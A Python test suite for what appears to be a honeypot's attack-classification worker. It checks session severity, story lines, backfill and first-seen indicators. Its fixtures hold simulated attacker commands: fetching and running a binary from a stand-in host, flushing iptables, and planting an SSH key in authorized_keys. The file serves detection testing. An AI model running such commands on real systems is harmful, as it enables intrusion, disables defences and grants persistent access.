"""Stories on both databases: stored with the tags, once, by live judging and back-fill alike; what was new, and when."""

from __future__ import annotations

from collections.abc import AsyncIterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from decnet.bus.base import Event
from decnet.bus.null import NullBus
from decnet.config import Settings, load_settings
from decnet.db.repository import BaseRepository
from decnet.events.ttp import SessionJudged
from decnet.recorder.worker import RecorderWorker
from decnet.runtime.worker import Transaction
from decnet.ttp import sweep as sweeping
from decnet.ttp.backfill import run_backfill
from decnet.ttp.store.factory import get_rule_store
from decnet.ttp.worker import TtpWorker
from tests.dbkit import KINDS, open_repo
from tests.rowkit import put, rows_of
from tests.wirekit import taken

START, END = datetime.fromtimestamp(0, UTC), datetime.fromtimestamp(1e9, UTC)
SHA = "94f2e4d8" + "0" * 56
JUDGED = "ttp.session.judged"
RULE = """rule_id: R9001
rule_version: {version}
name: firewall
description: The firewall is switched off.
applies_to: [command]
match: {{field: argv0, op: equals, value: iptables}}
emits: [{{tactic: TA0005, technique_id: {technique}, confidence: 0.8}}]
tests: {{match: ["iptables -F"], no_match: ["ls"]}}
"""


@pytest.fixture(params=KINDS)
async def repo(request: pytest.FixtureRequest, tmp_path: Path) -> AsyncIterator[BaseRepository]:
    async with open_repo(request.param, tmp_path) as opened:
        yield opened


def ended(name: str, lines: list[str], at: float = 1000.0, **more: Any) -> Event:
    commands = [{"id": f"{name}#cmd{n}", "command_text": text, "ts": at + n} for n, text in enumerate(lines)]
    payload = {
        "session_id": name, "attacker_ip": "203.0.113.1", "decky_id": "d", "started_at": at, "ended_at": at + 100,
        "commands": commands, "command_count": len(lines),
    }  # fmt: skip
    return Event("attacker.session.ended", {**payload, **more}, "", f"e-{name}-{len(lines)}", at + 100)


def settings_of(
    tmp_path: Path, version: int = 1, technique: str = "T1562, sub_technique_id: T1562.004"
) -> Settings:
    folder = tmp_path / "rules"
    folder.mkdir(exist_ok=True)
    (folder / "R9001.yaml").write_text(RULE.format(version=version, technique=technique))
    return load_settings(data_dir=tmp_path, rules=folder)


async def worker_of(repo: BaseRepository, settings: Settings) -> TtpWorker:
    worker = TtpWorker(get_rule_store(settings, repo=repo), settings)
    await worker.start(repo, NullBus())
    return worker


async def judge(worker: TtpWorker, repo: BaseRepository, *events: Event) -> list[Event]:
    async with repo.transaction() as bound:
        tx = Transaction(bound)
        await worker.handle(taken(list(events)), tx)
        return [event for event in tx.bus.events if event.topic == JUDGED]


async def store(repo: BaseRepository, *events: Event) -> None:
    async with repo.transaction() as bound:
        await RecorderWorker(load_settings()).handle(taken(list(events)), Transaction(bound))


RAN = ended("s1", ["wget http://203.0.113.9/sshd", "iptables -F", "chmod +x sshd; ./sshd"],
            downloads=[{"url": "http://203.0.113.9/sshd", "sha256": SHA}])  # fmt: skip


async def test_a_session_that_ended_has_its_story_with_its_tags(repo: BaseRepository, tmp_path: Path) -> None:
    worker = await worker_of(repo, settings_of(tmp_path))
    (news,) = await judge(worker, repo, RAN)
    told = await repo.session_told("s1")
    assert told["severity"] == "high"
    assert told["severity_reason"] == "fetched and ran sshd 94f2e4d8; switched off defences (firewall)"
    assert told["story_line"] == "fetch sshd \u203a blind \u203a arm+run sshd"
    assert [phase["phase"] for phase in told["story"] or ()] == ["deliver", "blind", "deliver"]
    record = SessionJudged.parse(news.payload)
    assert (record.session_id, record.severity, record.playbook) == ("s1", "high", told["playbook"])
    assert record.severity_reason == told["severity_reason"]
    assert news.payload["story"] == told["story"]
    assert len(await repo.list_tags(session="s1")) == 1


async def test_delivered_again_it_is_the_same_row_and_nothing_is_told(
    repo: BaseRepository, tmp_path: Path
) -> None:
    worker = await worker_of(repo, settings_of(tmp_path))
    await judge(worker, repo, RAN)
    stories, things = (
        await rows_of(repo, "session_story", "session_id"),
        await rows_of(repo, "session_thing", "value"),
    )
    assert await judge(worker, repo, RAN) == []
    assert await rows_of(repo, "session_story", "session_id") == stories
    assert await rows_of(repo, "session_thing", "value") == things
    assert set(things) == {SHA, "203.0.113.9", stories["s1"]["playbook"]}


async def test_backfill_gives_the_rows_that_live_judging_gives(repo: BaseRepository, tmp_path: Path) -> None:
    settings = settings_of(tmp_path)
    events = [RAN, ended("s2", ["uname -a", "exit"], 2000.0), ended("s3", [], 3000.0, auth={"fail_count": 4})]
    await store(repo, *events)
    await judge(await worker_of(repo, settings), repo, *events)
    live = await rows_of(repo, "session_story", "session_id")
    things = await rows_of(repo, "session_thing", "value")
    assert [live[name]["severity"] for name in ("s1", "s2", "s3")] == ["high", "low", "info"]
    await run_backfill(START, END, repo=repo, settings=settings)
    assert await rows_of(repo, "session_story", "session_id") == live
    async with repo.db.write() as session:
        for table in ("session_story", "session_thing"):
            await session.execute(_text(f"DELETE FROM {table}"))
    await run_backfill(START, END, repo=repo, settings=settings)
    assert await rows_of(repo, "session_story", "session_id") == live
    assert await rows_of(repo, "session_thing", "value") == things


def _text(statement: str) -> Any:
    from sqlalchemy import text

    return text(statement)


async def test_other_rules_give_the_newer_story_and_some_rules_alone_none(
    repo: BaseRepository, tmp_path: Path
) -> None:
    event = ended("s1", ["iptables -F"])
    await store(repo, event)
    await judge(await worker_of(repo, settings_of(tmp_path)), repo, event)
    assert (await repo.session_told("s1"))["severity"] == "high"
    newer = settings_of(tmp_path, 2, "T1027")
    await run_backfill(START, END, ["R9001"], repo=repo, settings=newer)
    assert (await repo.session_told("s1"))["severity"] == "high"
    await run_backfill(START, END, repo=repo, settings=newer)
    assert (await repo.session_told("s1"))["severity"] == "low"


async def test_a_session_that_went_on_has_the_story_of_all_of_it(
    repo: BaseRepository, tmp_path: Path
) -> None:
    worker = await worker_of(repo, settings_of(tmp_path))
    first = ended("s1", ["wget http://203.0.113.9/sshd"])
    (early,) = await judge(worker, repo, first)
    (late,) = await judge(worker, repo, RAN)
    assert (early.payload["severity"], late.payload["severity"]) == ("medium", "high")
    assert early.id != late.id
    assert await judge(worker, repo, first) == []
    assert (await repo.session_told("s1"))["severity"] == "high"


async def test_an_ignored_source_has_a_story_that_nobody_is_told_of(
    repo: BaseRepository, tmp_path: Path
) -> None:
    worker = await worker_of(repo, settings_of(tmp_path))
    await repo.ignore_add("203.0.113.1", reason="ours", set_by="ann")
    assert await judge(worker, repo, RAN) == []
    assert (await repo.session_told("s1"))["severity"] == "high"


async def test_what_was_never_seen_before_is_so_by_event_time(repo: BaseRepository, tmp_path: Path) -> None:
    worker = await worker_of(repo, settings_of(tmp_path))
    key = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7"
    lines = ["wget http://203.0.113.9/sshd", f"echo {key} >> ~/.ssh/authorized_keys", "iptables -F"]
    sha = [{"url": "http://203.0.113.9/sshd", "sha256": SHA}]
    later, again = ended("s5", lines, 5000.0, downloads=sha), ended("s6", lines, 6000.0, downloads=sha)
    await judge(worker, repo, again, later)
    first = await repo.first_times("s5")
    assert (first["hashes"], first["hosts"], first["techniques"]) == ([SHA], ["203.0.113.9"], ["T1562.004"])
    assert first["keys"][0].startswith("SHA256:")
    assert first["playbooks"] == [(await repo.session_told("s5"))["playbook"]]
    assert await repo.first_times("s6") == {}
    await judge(worker, repo, ended("s1", lines[:1], 1000.0, downloads=sha))
    assert set(await repo.first_times("s5")) == {"keys", "techniques", "playbooks"}
    assert set(await repo.first_times("s1")) == {"hashes", "hosts", "playbooks"}
    await put(repo, "session_thing", {"session_id": "s1", "kind": "of a later version", "value": "x"})
    assert set(await repo.first_times("s1")) == {"hashes", "hosts", "playbooks"}, "and the session is shown"


async def test_a_credential_is_new_until_somebody_tried_it_earlier(repo: BaseRepository) -> None:
    def tried(session: str, ts: float, ip: str, user: str = "root") -> Event:
        payload = {"attacker_ip": ip, "session_id": session, "username": user, "secret_hmac": "a1b2c3d4e5f6"}
        more = {"secret_kind": "password", "success": True}
        return Event("credential.captured", {**payload, **more}, "", f"c-{session}", ts)

    await store(repo, tried("s2", 2000.0, "203.0.113.2"), tried("s3", 3000.0, "203.0.113.3", "admin"))
    assert (await repo.first_times("s2"))["credentials"][0].startswith("root/")
    assert (await repo.first_times("s3"))["credentials"][0].startswith("admin/")
    await store(repo, tried("s1", 1000.0, "203.0.113.1"))
    assert await repo.first_times("s2") == {}


async def test_the_worst_sessions_are_read_first_then_what_is_new_and_scripts_once(
    repo: BaseRepository, tmp_path: Path
) -> None:
    def fetched(name: str, at: float, host: str, how: str = "sh") -> Event:
        return ended(
            name,
            [f"wget http://{host}/{name}.sh", f"{how} {name}.sh", "w", "id"][: 4 if how == "sh" else 3],
            at,
        )

    events = [
        ended("looked", ["uname -a", "w", "id", "exit"], 500.0),
        fetched("old", 1000.0, "203.0.113.9"), fetched("old-too", 1500.0, "203.0.113.9"),
        fetched("again", 2000.0, "203.0.113.9", "bash"), fetched("first", 3000.0, "203.0.113.7", "dash"),
        ended("fetched", ["wget http://203.0.113.9/a.sh"], 4000.0),
    ]  # fmt: skip
    await store(repo, *events, ended("again-before", [], 10.0))
    worker = await worker_of(repo, settings_of(tmp_path))
    await judge(worker, repo, *events)
    (source,) = (await repo.since(400.0, 9000.0)).sources
    assert (source["session_id"], source["severity"], source["sessions"], source["playbooks"]) == (
        "first",
        "high",
        6,
        5,
    )
    assert source["unseen"], "its newest session of the worst brought a host that was never seen before"
    alike = [
        (row["severity"], row["session_count"], row["story_line"]) for row in await repo.list_playbooks(400.0)
    ]
    assert alike[0] == ("high", 2, "fetch+run old-too.sh")
    assert [severity for severity, _, _ in alike] == ["high", "high", "high", "medium", "low"]
    assert len(await repo.list_playbooks(400.0, ["high"], limit=2)) == 2
    later = ended("before", ["wget http://203.0.113.9/z.sh", "bash z.sh", "w"], 5.0)
    await store(repo, later)
    await judge(worker, repo, later)
    assert (await repo.since(400.0, 2999.0)).sources[0]["session_id"] == "again"
    assert not (await repo.since(400.0, 2999.0)).sources[0]["unseen"], "an older log had its script"


async def test_a_session_that_is_purged_takes_its_story_along(repo: BaseRepository, tmp_path: Path) -> None:
    worker = await worker_of(repo, settings_of(tmp_path))
    await store(repo, RAN)
    await judge(worker, repo, RAN)
    gone = await repo.purge_older(5000.0)
    assert (gone["session_story"], gone["session_thing"]) == (1, 3)
    assert await rows_of(repo, "session_story", "session_id") == {}


@pytest.mark.parametrize("order", [(0, 1, 2), (2, 0, 1), (1, 2, 0, 1, 0)])
async def test_a_long_session_has_one_story_of_all_its_parts(
    repo: BaseRepository, tmp_path: Path, order: tuple[int, ...]
) -> None:
    lines = ["wget http://203.0.113.9/sshd", "id", "iptables -F", "w", "sh sshd", "rm sshd", "exit"]
    worker = await worker_of(repo, settings_of(tmp_path))
    await judge(worker, repo, ended("whole", lines))
    parts = []
    for n, (first, last) in enumerate(((0, 3), (3, 5), (5, 7)), 1):
        event = ended("whole", lines)
        some = [
            {**command, "id": str(command["id"]).replace("whole", "cut")}
            for command in event.payload["commands"][first:last]
        ]
        payload = {**event.payload, "session_id": "cut", "commands": some, "part": n, "parts": 3}
        parts.append(Event(event.topic, payload, "", f"part-{n}", event.ts))
    news = [event for n in order for event in await judge(worker, repo, parts[n])]
    stories = await repo.stories(["whole", "cut"])
    same = [name for name in stories["whole"] if name != "session_id"]
    assert {name: stories["cut"][name] for name in same} == {name: stories["whole"][name] for name in same}
    assert stories["cut"]["reason"] == "fetched and ran sshd; switched off defences (firewall)"
    assert news[-1].payload["story"] == stories["cut"]["story"]


LOGIN_RULE = """rule_id: R9002
rule_version: 1
name: root
description: Somebody came in as root.
applies_to: [credential]
match: {field: username, op: equals, value: root}
emits: [{tactic: TA0001, technique_id: T1078, sub_technique_id: T1078.001, confidence: 0.8}]
"""
OFTEN_RULE = """rule_id: R9003
rule_version: 1
name: often
description: Somebody came in as root and again.
applies_to: [credential]
match: {field: username, op: equals, value: root, window: {count: 1, within: 60s, by: [session_id]}}
emits: [{tactic: TA0001, technique_id: T1133, confidence: 0.8}]
"""
CAPTURED = Event(
    "credential.captured",
    {
        "session_id": "s1", "attacker_ip": "203.0.113.1", "decky_id": "d", "username": "root", "secret_hmac": "ab" * 16,
        "secret_kind": "password", "success": True, "ts": 999.0,
    }, "", "e-captured", 999.0,
)  # fmt: skip
ENTERED = ended("s1", ["iptables -F"], auth={"fail_count": 0, "success": True, "usernames": ["root"]})


@pytest.mark.parametrize("batches", [[[CAPTURED, ENTERED]], [[ENTERED, CAPTURED]], [[CAPTURED], [ENTERED]], [[ENTERED], [CAPTURED]]])  # fmt: skip
async def test_a_log_in_is_part_of_the_story_whenever_its_credential_comes(
    batches: list[list[Event]], repo: BaseRepository, tmp_path: Path
) -> None:
    settings = settings_of(tmp_path)
    for name, text_of in (("R9002", LOGIN_RULE), ("R9003", OFTEN_RULE)):
        (tmp_path / "rules" / f"{name}.yaml").write_text(text_of)
    worker = await worker_of(repo, settings)
    await store(repo, CAPTURED, ENTERED)
    for batch in batches:
        await judge(worker, repo, *batch)
    await worker.sweep.sweep_again(repo)
    told = await repo.session_told("s1")
    first = (told["story"] or [])[0]
    assert (first["phase"], first["techniques"]) == ("access", ["T1078.001"])
    stories = await rows_of(repo, "session_story", "session_id")
    await run_backfill(START, END, repo=repo, settings=settings)
    assert await rows_of(repo, "session_story", "session_id") == stories


async def test_only_a_story_that_lacks_its_credential_is_told_again(
    repo: BaseRepository, tmp_path: Path
) -> None:
    settings = settings_of(tmp_path)
    (tmp_path / "rules" / "R9002.yaml").write_text(LOGIN_RULE)
    worker = await worker_of(repo, settings)
    await store(repo, CAPTURED, ENTERED)
    await worker.sweep.sweep(repo)
    await judge(worker, repo, CAPTURED)
    assert await repo.untagged_count() == 1
    other = ended("s2", ["ls"])
    await store(repo, other)
    await worker.sweep.sweep_again(repo)
    assert await repo.untagged_count() == 1, "the stream brings the other one"
    await worker.sweep.sweep(repo)
    await judge(worker, repo, CAPTURED, ENTERED)
    assert await repo.untagged_count() == 0, "what came again is nothing new"
    assert not worker.sweep._again


async def test_so_many_sessions_are_told_again_and_no_more(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sweeping, "MAX_AGAIN", 3)
    sweep = sweeping.UntaggedSweep(None, 60.0)  # type: ignore[arg-type]
    sweep.again(["a", "b"])
    sweep.again(["b", "c", "d"])
    assert sweep._again == {"a", "b", "c"}
